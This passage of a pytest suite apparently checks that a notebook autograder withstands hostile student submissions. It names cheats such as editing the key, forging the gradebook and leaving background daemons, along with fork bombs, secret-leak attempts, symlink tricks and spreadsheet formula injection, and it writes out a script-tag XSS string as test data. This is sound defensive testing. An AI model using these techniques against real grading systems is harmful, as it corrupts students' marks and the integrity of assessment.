        data["gradebook_at_exit"] = _read_bytes(out / "gradebook.csv")  # what the grader wrote ...
        data["pages"] = _read_pages(out / "feedback")
        time.sleep(DAEMON_DELAY + 5)  # ... before the background attacks strike, DAEMON_DELAY s after it exits
        data["gradebook_later"] = _read_bytes(out / "gradebook.csv")
        data.update(result)
        data["rows"] = _parse_rows(data["gradebook_at_exit"], stale=old_gradebook)
        data["survivors"] = _run_processes(run_id, f"{base}/")
        data["net_hits"] = list(listener.hits)
        data["tmp_leftovers"] = leftovers()
        data["after"] = {"seeds": _tree_digest(kit.seeds_dir()), "case": _tree_digest(private_case),
                         "subs": _tree_digest(subs), "tmp": sorted(os.listdir(grader_tmp))}
        data["connection_files"] = [str(p) for d in (grader_tmp, teacher_home) for p in d.rglob("kernel-*.json")]
        data["why"] = f"grader exit status {data['code']}; stderr: {data['stderr'][-400:]!r}"
        _kill(_run_processes(run_id, f"{base}/"))  # whatever survived must not disturb the second run

        # a second run, with the same private key, of an honest and a wrong student: edits of the key must not count
        subs2 = base / "submissions_second"
        (subs2 / "honest_second_run").mkdir(parents=True)
        nbformat.write(_solution(), subs2 / "honest_second_run" / NOTEBOOK)
        wrong = _solution()
        _set(wrong, "answer_q0_2", 'answer_q0_2 = "A0"')
        (subs2 / "wrong_second_run").mkdir()
        nbformat.write(wrong, subs2 / "wrong_second_run" / NOTEBOOK)
        second = _grade(subs2, base / "out_second", base, env, "second")
        data["second"] = dict(second, rows=_parse_rows(_read_bytes(base / "out_second" / "gradebook.csv")))
        data["after_second"] = {"seeds": _tree_digest(kit.seeds_dir()), "case": _tree_digest(private_case)}
        yield data
    finally:
        listener.close()
        _kill(_run_processes(run_id, f"{base}/"))
        for path in leftovers():
            Path(path).unlink(missing_ok=True) if not Path(path).is_dir() else shutil.rmtree(path, ignore_errors=True)


# --------------------------------------------------------------------------- reading the results


def _need(run, student: str) -> None:
    if student not in run["made"]:
        pytest.skip(f"{student} is not in this run (KIT_HOSTILE_ONLY)")


def _rows(run, student: str) -> dict[str, dict[str, str]]:
    """The student's rows for lesson 00 by question (TOTAL included); fails when there are none."""
    _need(run, student)
    mine = [r for r in run["rows"] if r["student"] in (student, "'" + student) and r["notebook"] == NOTEBOOK]
    assert mine, f"{student}: no rows in the gradebook ({run['why']})"
    return {r["question"]: r for r in mine}


def _points(run, student: str) -> int:
    return int(_rows(run, student)["TOTAL"]["points"])


def _show(rows: dict[str, dict[str, str]]) -> str:
    return "; ".join(f"{q}={r['answer'][:40]}:{r['result']}" for q, r in rows.items() if q != "TOTAL") + (
        f" | status: {rows['TOTAL']['status']!r}"
    )


def _pages(run) -> dict[str, str]:
    """The feedback pages as the grader left them (read as soon as it exited)."""
    return run["pages"]


def _all_output(run) -> dict[str, str]:
    texts = {"gradebook.csv": (run["gradebook_at_exit"] or b"").decode("utf-8", "replace")}
    texts.update({f"feedback/{name}": text for name, text in _pages(run).items()})
    return texts


# --------------------------------------------------------------------------- the whole run


def test_the_grader_completes_despite_every_attack(run):
    assert run["code"] == 0, f"an attack stopped the grading run: {run['why']}"
    assert run["rows"], f"no new gradebook was written ({run['why']})"


def test_honest_students_graded_first_and_last_get_full_marks(run):
    for student in HONEST:
        rows = _rows(run, student)
        assert _points(run, student) == FULL, f"{student} lost points to the attacks: {_show(rows)}"
        assert {r["status"] for r in rows.values()} == {"ok"}, f"{student}: {_show(rows)}"


def test_every_student_has_a_row_per_question_and_a_total(run):
    for student in run["made"]:
        if student == HIDDEN:
            continue
        rows = [r for r in run["rows"] if r["student"] in (student, "'" + student) and r["notebook"] == NOTEBOOK]
        got = Counter(r["question"] for r in rows)
        assert got == Counter(QUESTIONS + ["TOTAL"]), f"{student}: rows {dict(got)} ({run['why']})"
        assert {r["result"] for r in rows if r["question"] != "TOTAL"} <= RESULTS, student
        totals = [r for r in run["rows"] if r["student"] in (student, "'" + student) and r["notebook"] == "ALL"]
        assert len(totals) == 1 and totals[0]["question"] == "TOTAL", f"{student}: no ALL/TOTAL row"


def test_no_process_of_the_run_survives_it(run):
    assert not run["survivors"], f"processes of the run still alive {DAEMON_DELAY + 5} s after it: {run['survivors']}"


def test_the_graders_temp_folder_is_left_empty_and_without_connection_files(run):
    assert run["after"]["tmp"] == run["before"]["tmp"], f"left in the grader's TMPDIR: {run['after']['tmp']}"
    assert not run["connection_files"], f"kernel connection files left behind: {run['connection_files']}"


def test_anything_written_inside_a_sandbox_is_discarded(run):
    assert not run["tmp_leftovers"], f"files the attacks wrote to /tmp are still there: {run['tmp_leftovers']}"


def test_the_submissions_are_byte_identical_after_the_run(run):
    assert run["after"]["subs"] == run["before"]["subs"], "a notebook changed or added files in SUBMISSIONS_DIR"


def test_the_built_in_key_and_the_private_case_are_byte_identical(run):
    assert run["after"]["seeds"] == run["before"]["seeds"], "the built-in case (seeds/) was changed by a notebook"
    assert run["after"]["case"] == run["before"]["case"], "the private --case folder was changed by a notebook"
    assert run["after_second"] == {k: run["before"][k] for k in ("seeds", "case")}


def test_out_dir_holds_what_the_grader_wrote_and_nothing_planted(run):
    assert (run["out"] / "gradebook.csv").is_file(), "OUT_DIR/gradebook.csv is not a file"
    planted = [str(p.relative_to(run["out"])) for p in run["out"].rglob("*")
               if run["run_id"] in p.name or "forged" in p.name.lower() or p.name == "blocker"]
    assert not planted, f"files planted in OUT_DIR by notebooks: {planted}"
    students = {r["student"] for r in run["rows"]}
    pages = sorted(name for name in _pages(run) if name.endswith(".html"))
    assert len(pages) == len(students), f"{len(pages)} feedback pages for {len(students)} students: {pages}"


def test_no_secret_reaches_the_gradebook_or_a_feedback_page(run):
    leaks = [f"{what} in {where}" for where, text in _all_output(run).items()
             for what, secret in run["secrets"].items() if secret in text]
    assert not leaks, "leaked: " + "; ".join(leaks)


def test_feedback_pages_contain_no_raw_markup_from_students(run):
    bad = [name for name, text in _pages(run).items() if "<script" in text.lower() or "<img" in text.lower()]
    assert not bad, f"raw <script>/<img> in {bad}"


def test_no_gradebook_cell_made_by_a_student_reads_as_a_formula(run):
    def formula(text):
        if not text or text[0] not in "=+@-":
            return False
        try:
            float(text)
            return False
        except ValueError:
            return True

    bad = [(r["student"], k, r[k][:60]) for r in run["rows"] for k in ("student", "answer", "status") if formula(r[k])]
    assert not bad, bad


# --------------------------------------------------------------------------- cheating


@pytest.mark.parametrize("student", list(CHEATS))
def test_a_cheat_leaves_its_wrong_answer_wrong(run, student):
    rows = _rows(run, student)
    assert rows["q0.2"]["answer"] == "'A0'" and rows["q0.2"]["points"] == "0", f"{student} worked: {_show(rows)}"
    assert _points(run, student) == FULL - 1, f"{student}: {_show(rows)}"


def test_cheat_forge_classmate_neither_sinks_the_victim_nor_adds_students(run):
    rows = _rows(run, "cheat_forge_classmate")
    assert _points(run, "cheat_forge_classmate") == FULL - 1, _show(rows)
    victim = _rows(run, VICTIM)
    assert _points(run, VICTIM) == FULL and victim["TOTAL"]["status"] == "ok", f"the victim was sunk: {_show(victim)}"
    assert not [r for r in run["rows"] if "ghost" in r["student"]], "a planted student folder was graded"
    assert run["after"]["subs"] == run["before"]["subs"], "the forger changed SUBMISSIONS_DIR"


def test_cheat_edit_key_changes_neither_this_run_nor_the_next(run):
    rows = _rows(run, "cheat_edit_key")
    assert rows["q0.2"]["result"] == "not yet right" and _points(run, "cheat_edit_key") == FULL - 1, _show(rows)
    second = {(r["student"], r["question"]): r for r in run["second"]["rows"]}
    assert run["second"]["code"] == 0, run["second"]["stderr"][-400:]
    assert second[("honest_second_run", "TOTAL")]["points"] == str(FULL), "the next run's key was edited"
    assert second[("wrong_second_run", "q0.2")]["result"] == "not yet right", "the next run accepts the edited answer A0"
    assert second[("wrong_second_run", "TOTAL")]["points"] == str(FULL - 1)
    assert run["after_second"]["case"] == run["before"]["case"], "the private key was edited on disk"


def test_cheat_fake_gradebook_is_not_what_the_grader_wrote(run):
    rows = _rows(run, "cheat_fake_gradebook")
    assert _points(run, "cheat_fake_gradebook") == FULL - 1, _show(rows)
    forged = [where for where, text in _all_output(run).items() if "FORGED" in text]
    assert not forged, f"forged content in {forged}"


@pytest.mark.parametrize("student", ["cheat_daemon_popen", "cheat_daemon_double_fork"])
def test_a_background_process_cannot_rewrite_the_gradebook_later(run, student):
    rows = _rows(run, student)
    assert _points(run, student) == FULL - 1, _show(rows)
    assert run["gradebook_later"] == run["gradebook_at_exit"], "the gradebook changed after the grader exited"
    mark = f"hostile-{run['run_id']}-" + ("double-fork" if "double" in student else "popen")
    alive = {pid: line for pid, line in run["survivors"].items() if mark in line}
    assert not alive, f"{student}'s process outlived the run: {alive}"


def test_cheat_forge_snapshot_reaches_only_its_own_answers(run):
    rows = _rows(run, "cheat_forge_snapshot")
    assert {r["result"] for q, r in rows.items() if q != "TOTAL"} <= RESULTS, _show(rows)
    # everyone else is checked by the other tests; its own grade is its own business (forging = answering)
    assert run["code"] == 0, run["why"]
    assert _points(run, HONEST[1]) == FULL and _points(run, VICTIM) == FULL


# --------------------------------------------------------------------------- stopping the class

KEPT_BEFORE_Q2 = {"q0.1": "correct", "q0.2": "correct", **dict.fromkeys(QUESTIONS[2:], "not answered")}


@pytest.mark.parametrize("student", [s for s, (where, _) in STOPS.items() if where == "end"])
def test_an_attack_after_every_answer_costs_its_author_nothing_and_stops_nobody(run, student):
    rows = _rows(run, student)
    assert _points(run, student) == FULL, f"{student}: {_show(rows)}"
    assert not rows["TOTAL"]["status"].startswith(("grader error", "not graded")), _show(rows)


@pytest.mark.parametrize(
    ("student", "status"),
    [
        ("stop_os_exit", "kernel died in cell {k}"),
        ("stop_segfault", "kernel died in cell {k}"),
        ("stop_infinite_loop", "timed out in cell {k}"),
        ("stop_ignore_signals", "timed out in cell {k}"),
    ],
)
def test_answers_set_before_a_fatal_cell_are_kept(run, student, status):
    rows = _rows(run, student)
    expected = status.format(k=run["cells"][student])
    assert rows["TOTAL"]["status"].startswith(expected), f"{student}: want {expected!r}: {_show(rows)}"
    assert {q: rows[q]["result"] for q in QUESTIONS} == KEPT_BEFORE_Q2, f"{student}: {_show(rows)}"
    assert _points(run, student) == 2


def test_sys_exit_is_an_error_in_its_cell_and_later_answers_count(run):
    rows = _rows(run, "stop_sys_exit")
    assert rows["TOTAL"]["status"].startswith(f"error in cell {run['cells']['stop_sys_exit']}: SystemExit"), _show(rows)
    assert _points(run, "stop_sys_exit") == FULL, _show(rows)


@pytest.mark.parametrize("student", ["stop_print_200mb", "stop_html_50mb"])
def test_huge_outputs_are_capped(run, student):
    rows = _rows(run, student)
    assert "output capped" in rows["TOTAL"]["status"], f"{student}: {_show(rows)}"
    assert _points(run, student) == FULL
    assert sum(map(len, _pages(run).values())) < 5_000_000, "the huge output reached the feedback pages"


@pytest.mark.parametrize(("student", "suffix"), [("stop_ignore_signals", "-stubborn"), ("stop_fork_many", "-fork"),
                                                ("stop_fork_600mb", "-hog")])
def test_the_children_of_an_attack_end_with_its_kernel(run, student, suffix):
    _need(run, student)
    mark = f"hostile-{run['run_id']}{suffix}"
    alive = {pid: line for pid, line in run["survivors"].items() if mark in line}
    assert not alive, f"children started by {student} outlived the run: {alive}"


# --------------------------------------------------------------------------- leaks


@pytest.mark.parametrize("student", list(LEAKS))
def test_a_leak_attempt_finds_no_secret(run, student):
    rows = _rows(run, student)
    page = next((t for n, t in _pages(run).items() if n.startswith(student)), "")
    shown = " ".join(r["answer"] + " " + r["status"] + " " + r["message"] for r in rows.values()) + page
    leaked = [what for what, secret in run["secrets"].items() if secret in shown]
    assert not leaked, f"{student} leaked {leaked} into its rows or its feedback page"


# --------------------------------------------------------------------------- values


@pytest.mark.parametrize(("student", "question"), VALUE_CASES)
def test_a_hostile_value_is_scored_invalid(run, student, question):
    if student == "values_numpy":
        pytest.importorskip("numpy")
    rows = _rows(run, student)
    assert rows[question]["result"] == "invalid", f"{student} {question}: {_show(rows)}"
    assert rows[question]["points"] == "0"


@pytest.mark.parametrize("student", list(VALUES))
def test_the_other_answers_of_a_hostile_value_student_are_scored(run, student):
    if student == "values_numpy":
        pytest.importorskip("numpy")
    rows = _rows(run, student)
    plain = [q for q in QUESTIONS if q not in VALUES[student]]
    assert {q: rows[q]["result"] for q in plain} == dict.fromkeys(plain, "correct"), _show(rows)
    assert not rows["TOTAL"]["status"].startswith("grader error"), _show(rows)


def test_a_plain_numpy_scalar_is_read_as_its_value_or_invalid(run):
    pytest.importorskip("numpy")
    row = _rows(run, "values_numpy")["q0.7"]
    assert (row["result"], row["answer"]) == ("correct", "2") or row["result"] == "invalid", row


# --------------------------------------------------------------------------- network


def test_the_kernel_reaches_no_network(run):
    rows = _rows(run, "net_connect")
    assert not rows["q0.6"]["answer"].startswith("'NET-OK"), f"a connection worked: {rows['q0.6']['answer']}"
    assert rows["q0.6"]["result"] == "correct", _show(rows)
    assert not run["net_hits"], f"the test's listener was reached: {run['net_hits']}"


# --------------------------------------------------------------------------- input tricks


def test_a_hidden_student_folder_is_not_silently_dropped(run):
    _need(run, HIDDEN)
    rows = [r for r in run["rows"] if r["student"] == HIDDEN]
    assert rows or HIDDEN in run["stdout"], "the folder .hidden_student was neither graded nor reported"


@pytest.mark.parametrize("student", ["symlink_to_classmate", "symlink_to_key", "symlink_to_secret"])
def test_a_symlinked_notebook_earns_nothing(run, student):
    rows = _rows(run, student)
    assert _points(run, student) == 0, f"{student} was graded as a notebook: {_show(rows)}"


def test_a_notebook_of_5000_cells_is_graded_or_refused(run):
    rows = _rows(run, "input_5000_cells")
    status = rows["TOTAL"]["status"]
    assert _points(run, "input_5000_cells") == FULL or status.startswith("not a valid notebook"), _show(rows)


@pytest.mark.parametrize("student", ["input_not_json", "input_not_utf8", FORMULA_STUDENT])
def test_a_broken_notebook_file_is_not_a_valid_notebook(run, student):
    rows = _rows(run, student)
    assert {r["status"] for r in rows.values()} == {rows["TOTAL"]["status"]}
    assert rows["TOTAL"]["status"].startswith("not a valid notebook"), _show(rows)
    assert _points(run, student) == 0


def test_markup_in_a_folder_name_and_in_answers_is_escaped(run):
    rows = _rows(run, HTML_STUDENT)
    assert rows["q0.4"]["answer"] == "\"<script>alert('answer')</script>\"" and rows["q0.4"]["result"] != "correct"
    assert _points(run, HTML_STUDENT) == FULL - 2, _show(rows)  # q0.1 and q0.4 are wrong
    pages = [t for t in _pages(run).values() if "pwned" in t]
    assert pages, "no feedback page names the student, escaped"
    assert all("<script" not in t.lower() for t in pages)
